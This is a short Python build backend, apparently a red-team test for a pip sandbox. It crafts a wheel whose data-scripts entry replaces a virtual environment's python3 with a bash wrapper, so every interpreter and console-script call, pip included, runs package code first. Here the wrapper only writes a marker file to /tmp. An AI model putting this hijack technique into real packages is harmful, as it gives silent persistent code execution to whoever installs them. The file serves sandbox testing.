# Attack C5: the wheel's .data/scripts/python3 replaces the venv's own
# bin/python3 (a symlink venv made; no RECORD owns it) with a wrapper that
# runs package code, then the real interpreter (argv[0] kept, so the venv
# still works).  bin/python and every console script (#!venv/bin/python)
# go through it, pip included.
import os, sys
sys.path.insert(0, os.path.dirname(__file__))
import wheelkit

NAME, VER = "rt1-replace-python", "1.0"
WRAP = (b"#!/bin/bash\n"
        b"[ -e /run/pipjail/anchors ] || echo \"wrapper ran: $0 $*\" >> /tmp/rt1-pwned-python3\n"
        b"exec -a \"$0\" /usr/bin/python3.11 \"$@\"\n")

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(wheel_dir, config_settings=None, metadata_directory=None):
    return wheelkit.write_wheel(wheel_dir, NAME, VER, {
        "rt1_replace_python.py": b"",
        f"{NAME.replace('-', '_')}-{VER}.data/scripts/python3": WRAP})
